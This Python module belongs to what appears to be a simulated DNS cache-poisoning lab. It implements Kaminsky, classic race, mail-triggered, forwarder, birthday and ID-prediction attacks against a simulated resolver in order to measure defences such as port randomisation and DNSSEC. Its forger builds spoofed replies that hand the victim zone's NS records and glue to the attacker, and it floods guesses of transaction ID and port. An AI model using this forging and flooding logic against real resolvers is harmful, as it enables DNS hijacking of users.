"""The attacks: an attacker host with a strategy, run against the arena's resolver.

Owns: the Kaminsky attack in both variants — (a) forged referral: NS + glue for the whole
victim zone pointing at the attacker's server; (b) forged answer carrying an in-bailiwick
override (the victim zone's NS set and www's address in authority/additional) — and the
classic pre-2008 race on one name (limited by the real answer's TTL once it is cached),
and the ID-predicting variant (a window of IDs after one it saw at its own server).
Each attempt triggers a lookup and floods one race window of guesses; the trial ends at
the first success or when the budget is spent. What the attacker may know: the victim
zone's public servers, the resolver's port pool (worst case), the names it triggered,
and what its own servers receive.
Must never: read the resolver's state to choose guesses (the harness only reads it to
decide whether the attack has succeeded, as the attacker could by asking).
"""

from __future__ import annotations

import dataclasses
import enum
import io
import json
import random
import time
from dataclasses import dataclass, field

import dns.flags
import dns.message
import dns.name
import dns.rdatatype
import dns.rrset

from poisonproof.lab.arena import (
    ATTACKER_IP,
    FORWARDER_IP,
    MAIL_IP,
    MAIL_NAMES,
    RESOLVER_IP,
    VICTIM,
    Arena,
    ArenaParams,
    ZoneFiles,
    build_arena,
)
from poisonproof.lab.flood import ID_SPACE, Flood, GuessSpace
from poisonproof.lab.guesses import GuessSequence
from poisonproof.net.base import Address
from poisonproof.net.sim import Simulation
from poisonproof.resolver.defenses import EPHEMERAL_PORTS, Defenses
from poisonproof.resolver.validator import Security

ATTACKER_NS = dns.name.from_text("ns.attacker.example.")


class AttackName(enum.Enum):
    KAMINSKY = "kaminsky"
    """Variant (a): forged referral for the whole zone (NS + glue)."""
    KAMINSKY_ANSWER = "kaminsky-answer"
    """Variant (b): forged answer with an in-bailiwick NS/A override."""
    CLASSIC = "classic"
    """Race the lookup of www.bank.example itself; one try per TTL."""
    MAIL = "mail"
    """The 2008 press scenario: the attacker may not query the resolver, so it sends mail
    to m<i>.attacker.example; the mail service looks up its MX (x<i>.bank.example, a name
    in the victim zone) and then that name's address, which the attacker races with forged
    referrals. The attacker times the flood by the MX query reaching its own server."""
    FORWARDER = "forwarder"
    """MaginotDNS class: race the resolver's question to its forwarder (for corp.example)
    with answers that also carry the victim zone's NS set and glue; a resolver that
    does not scrub forwarder answers caches them for recursion too."""
    BIRTHDAY = "birthday"
    """Kaminsky's referral, triggered by many identical queries at once: without query
    merging each becomes its own upstream query, and any of them can be matched."""
    PREDICT = "predict"
    """Kaminsky's referral with the transaction ID predicted, as against resolvers that
    counted their IDs up (BIND 4/8): each attempt first asks the resolver for a random name
    in the attacker's own zone and reads, from its own server's query log, the ID that
    query carried; then it triggers the victim lookup at once and guesses only the
    `PREDICT_WINDOW` IDs after the one it saw. A sequential ID falls to a few hundred
    packets; a random one is in the window one time in 65,536 / `PREDICT_WINDOW`."""


PREDICT_WINDOW = 64
"""IDs the predicting attacker tries after the one it saw (other queries the resolver
sends in between move its counter on)."""


@dataclass(frozen=True)
class AttackParams:
    rate: float = 100_000.0
    """Forged replies per second landing at the resolver."""
    budget_packets: int = 50_000_000
    budget_time: float = 86_400.0
    """Simulated seconds the attacker keeps trying."""
    max_attempts: int = 100_000
    per_packet: bool = False
    duplicates: int = 100
    """Identical triggers per attempt in the birthday attack."""


@dataclass
class TrialResult:
    attack: str
    defenses: str
    seed: int
    success: bool
    attempts: int
    packets: int
    sim_time: float
    wall_time: float
    victim_sees: list[str]
    reasons: dict[str, int] = field(default_factory=dict)
    """Forged replies the resolver refused, by the check that refused them."""
    note: str = ""

    def to_json(self) -> dict[str, object]:
        return dataclasses.asdict(self)


def forger(attack: AttackName, qname: dns.name.Name) -> object:
    """The forged reply for one guess, as the attacker builds it: one template per window
    (lowercase name), with only the transaction ID patched in per packet."""
    query = dns.message.make_query(qname, "A")
    reply = dns.message.make_response(query)
    reply.id = 0
    if attack in (AttackName.KAMINSKY, AttackName.BIRTHDAY, AttackName.MAIL, AttackName.PREDICT):
        reply.flags &= ~dns.flags.AA
        reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", ATTACKER_NS.to_text())]
        reply.additional = [dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", ATTACKER_IP)]
    elif attack is AttackName.FORWARDER:
        reply.flags |= dns.flags.RA
        reply.answer = [dns.rrset.from_text(qname, 300, "IN", "A", "10.1.1.99")]
        reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", ATTACKER_NS.to_text())]
        reply.additional = [dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", ATTACKER_IP)]
    else:
        reply.flags |= dns.flags.AA
        reply.answer = [dns.rrset.from_text(qname, 86400, "IN", "A", ATTACKER_IP)]
        reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", "ns1.bank.example.")]
        reply.additional = [
            dns.rrset.from_text("ns1.bank.example.", 86400, "IN", "A", ATTACKER_IP),
            dns.rrset.from_text("www.bank.example.", 86400, "IN", "A", ATTACKER_IP),
        ]
    template = reply.to_wire()

    def forge(server: Address, port: int, txid: int) -> bytes:
        return txid.to_bytes(2, "big") + template[2:]

    return forge


async def _trigger_mail(arena: Arena, index: int) -> None:
    """Send mail to m<index>.attacker.example and wait until the resolver asks the
    attacker's own server for its MX: the A lookup of the victim-zone name follows next."""
    arena.sim.network.send(
        (ATTACKER_IP, 40025), (MAIL_IP, 25), f"m{index}.attacker.example".encode()
    )
    await _attacker_server_asked(arena)
    # the MX answer reaches the resolver (as the forged replies do: attacker latency), the
    # resolver answers the mail service, which asks for the exchanger's address: two hops
    # at the client latency; flooding from then on covers the race window
    await arena.sim_sleep(max(0.0, 2 * arena.params.client_latency - POLL_STEP))


POLL_STEP = 0.0001
"""Simulated seconds between the attacker's looks at its own server."""


async def _attacker_server_asked(arena: Arena, limit: float = 2.0) -> None:
    """Wait until the attacker's server gets a query it had not had when this was called
    (at most `limit` simulated seconds), looking every `POLL_STEP`."""
    assert arena.attacker_server is not None
    stats = arena.attacker_server.engine.stats
    seen = stats["queries"]
    for _ in range(int(limit / POLL_STEP)):
        await arena.sim_sleep(POLL_STEP)
        if stats["queries"] > seen:
            return


async def _observe_id(arena: Arena, rng: random.Random) -> int | None:
    """Ask the resolver for a random name in the attacker's zone and return the ID of the
    query the attacker's server gets for it (from that server's query log; None if no
    query came within 2 s)."""
    server = arena.attacker_server
    assert server is not None
    log = io.StringIO()
    server.query_log = log
    try:
        arena.send_query(f"p{rng.getrandbits(40):010x}.attacker.example.")
        await _attacker_server_asked(arena)
    finally:
        server.query_log = None
    for line in log.getvalue().splitlines():
        record = json.loads(line)
        if isinstance(record.get("id"), int):
            return int(record["id"])
    return None


def poisoned(arena: Arena) -> bool:
    """Whether the resolver now holds the attacker's data (the harness's check).

    For a validating resolver holding it is not yet winning: see `serves_attacker`."""
    cache = arena.resolver.cache
    www = cache.get(dns.name.from_text("www.bank.example."), dns.rdatatype.A, min_rank=1)  # type: ignore[arg-type]
    if www is not None and any(r.address == ATTACKER_IP for r in www):  # type: ignore[attr-defined]
        return True
    ns = cache.get(VICTIM, dns.rdatatype.NS, min_rank=1)  # type: ignore[arg-type]
    if ns is not None and any(r.target == ATTACKER_NS for r in ns):  # type: ignore[attr-defined]
        return True
    glue = cache.addresses(dns.name.from_text("ns1.bank.example."), (dns.rdatatype.A,))
    return ATTACKER_IP in glue and glue[0] == ATTACKER_IP


async def serves_attacker(arena: Arena, attempt: int) -> bool:
    """Whether the resolver now gives clients the attacker's address in the victim zone:
    www.bank.example as its cache would answer it (not through the frontend's replay of
    an earlier reply, which only delays what the cache holds), and a fresh name asked as
    the attacker could (its answer comes through whatever delegation the resolver holds).

    Needed for a validating resolver only: a forged delegation it holds leads it to the
    attacker's server, but what that server says is served only if it validates (bogus
    answers become SERVFAIL); without validation, holding is serving.
    """
    www = arena.resolver.cached_answer(dns.name.from_text("www.bank.example."), dns.rdatatype.A)
    if www is not None and www.security is not Security.BOGUS and _has_attacker(www.answer):
        return True
    reply = await arena.ask(f"check{attempt}.{VICTIM.to_text()}")
    return reply is not None and _has_attacker(reply.answer)


def _has_attacker(rrsets: list[dns.rrset.RRset]) -> bool:
    return any(
        r.address == ATTACKER_IP  # type: ignore[attr-defined]
        for rrset in rrsets
        if rrset.rdtype == dns.rdatatype.A
        for r in rrset
    )


DNSSEC_COUNTS = (
    ("aggressive_nsec", "resolver"),
    ("keys_bogus", "resolver"),
    ("bogus_retries", "resolver"),
    ("bogus", "frontend"),
)
"""Validation counts a trial reports, as `dnssec_<name>`: questions answered from cached
signed denials without asking upstream (RFC 8198: a trigger for a random name in a
signed zone opens no race window), key sets found bogus, servers asked again after bogus
data, and answers refused to clients as bogus (SERVFAIL with an Extended DNS Error)."""


def dnssec_refusals(arena: Arena) -> dict[str, int]:
    """What validation refused during the trial (empty without validation)."""
    out: dict[str, int] = {}
    for key, where in DNSSEC_COUNTS:
        stats = arena.resolver.stats if where == "resolver" else arena.frontend.stats
        if stats.get(key):
            out[f"dnssec_{key}"] = stats[key]
    return out


def guess_space(arena: Arena, attack: AttackName) -> GuessSpace:
    """What the attacker guesses among: the victim's servers, the resolver's port pool."""
    pool = arena.resolver.factory.ports
    ports: tuple[int, ...] | range = (
        range(EPHEMERAL_PORTS[0], EPHEMERAL_PORTS[1] + 1) if pool is None else tuple(sorted(pool))
    )
    if attack is AttackName.FORWARDER:
        return GuessSpace(((FORWARDER_IP, 53),), ports)
    return GuessSpace(tuple(arena.victim_servers), ports)


async def run_attack(
    arena: Arena, attack: AttackName, params: AttackParams, rng: random.Random
) -> tuple[bool, int, int, float, dict[str, int]]:
    """Attempts until success or budget: (success, attempts, packets, time, refusals)."""
    sim = arena.sim
    net = sim.network
    space = guess_space(arena, attack)
    window = arena.params.window
    guesses = max(1, int(params.rate * window))
    if attack is AttackName.PREDICT:
        await _observe_id(arena, rng)  # before the clock: its zone's delegation is cached
    started = sim.loop.time()
    packets = 0
    attempt = 0
    refusals: dict[str, int] = {}
    while attempt < params.max_attempts:
        if packets >= params.budget_packets or sim.loop.time() - started >= params.budget_time:
            break
        attempt += 1
        if attack is AttackName.CLASSIC:
            qname = dns.name.from_text("www.bank.example.")
        elif attack is AttackName.FORWARDER:
            qname = dns.name.from_text(f"x{rng.getrandbits(40):010x}.corp.example.")
        elif attack is AttackName.MAIL:
            if attempt > MAIL_NAMES:
                break
            qname = dns.name.from_text(f"x{attempt - 1:05d}.bank.example.")
        else:
            qname = dns.name.from_text(f"x{rng.getrandbits(40):010x}.bank.example.")
        window_space = space
        if attack is AttackName.PREDICT:
            seen = await _observe_id(arena, rng)
            if seen is not None:  # (none seen: it guesses every ID, as the others do)
                window_space = dataclasses.replace(
                    space, id_base=(seen + 1) % ID_SPACE, id_count=PREDICT_WINDOW
                )
        sequence = GuessSequence.random(window_space.size, rng)
        flood = Flood(
            net,
            RESOLVER_IP,
            window_space,
            sequence,
            forger(attack, qname),  # type: ignore[arg-type]
            origin=ATTACKER_IP,
            rate=params.rate,
            latency=arena.params.attacker_latency,
            per_packet=params.per_packet,
        )
        if attack is AttackName.MAIL:
            await _trigger_mail(arena, attempt - 1)
        else:
            triggers = params.duplicates if attack is AttackName.BIRTHDAY else 1
            for _ in range(triggers):
                arena.send_query(qname.to_text())
        await flood.run(min(guesses, params.budget_packets - packets))
        packets += flood.stats.sent
        await arena.sim_sleep(2 * arena.params.attacker_latency + 0.001)
        if poisoned(arena):
            elapsed = sim.loop.time() - started  # the check's own lookup is not counted
            if not arena.resolver.validating or await serves_attacker(arena, attempt):
                return True, attempt, packets, elapsed, refusals
            refusals["dnssec_forged_delegation_bogus"] = (
                refusals.get("dnssec_forged_delegation_bogus", 0) + 1
            )
        if attack is AttackName.CLASSIC:
            await arena.sim_sleep(arena.params.ttl)  # the real answer is cached: wait it out
    stats = arena.resolver.stats
    for key in (
        "near_misses",
        "case_mismatches",
        "nearmiss_tcp_retries",
        "spoof_alarms",
        "scrubbed_records",
    ):
        if stats.get(key):
            refusals[key] = stats[key]
    refusals.update(dnssec_refusals(arena))
    return False, attempt, packets, sim.loop.time() - started, refusals


def run_trial(
    attack: AttackName,
    defenses: Defenses,
    defenses_label: str,
    arena_params: ArenaParams,
    attack_params: AttackParams,
    seed: int,
    zones: ZoneFiles,
) -> TrialResult:
    """One trial on a fresh simulation: warm-up, attack, then the honest client's view."""
    wall = time.perf_counter()
    sim = Simulation(seed=seed, trace=False)
    rng = random.Random(seed * 7919 + 17)

    async def main() -> TrialResult:
        arena = await build_arena(
            sim, arena_params, defenses, zones, seed, open_resolver=attack is not AttackName.MAIL
        )
        try:
            await arena.ask("www.bank.example")  # normal traffic: the victim zone is cached
            success, attempts, packets, sim_time, refusals = await run_attack(
                arena, attack, attack_params, rng
            )
            victim = await arena.victim_view()
            stats = arena.resolver.stats
            for key in ("near_misses", "case_mismatches", "nearmiss_tcp_retries", "spoof_alarms"):
                if stats.get(key):
                    refusals[key] = stats[key]
            refusals.update(dnssec_refusals(arena))
            note = ""
            if success != (ATTACKER_IP in victim):
                note = "poisoned cache not seen by the client"
            elif not victim:
                note = "the honest client got no address (SERVFAIL)"
            return TrialResult(
                attack.value,
                defenses_label,
                seed,
                success and ATTACKER_IP in victim,
                attempts,
                packets,
                round(sim_time, 6),
                0.0,
                victim,
                refusals,
                note,
            )
        finally:
            await arena.stop()

    try:
        result = sim.run(main())
    finally:
        sim.close()
    assert isinstance(result, TrialResult)
    result.wall_time = round(time.perf_counter() - wall, 4)
    return result


__all__ = ["AttackName", "AttackParams", "TrialResult", "run_trial", "RESOLVER_IP"]
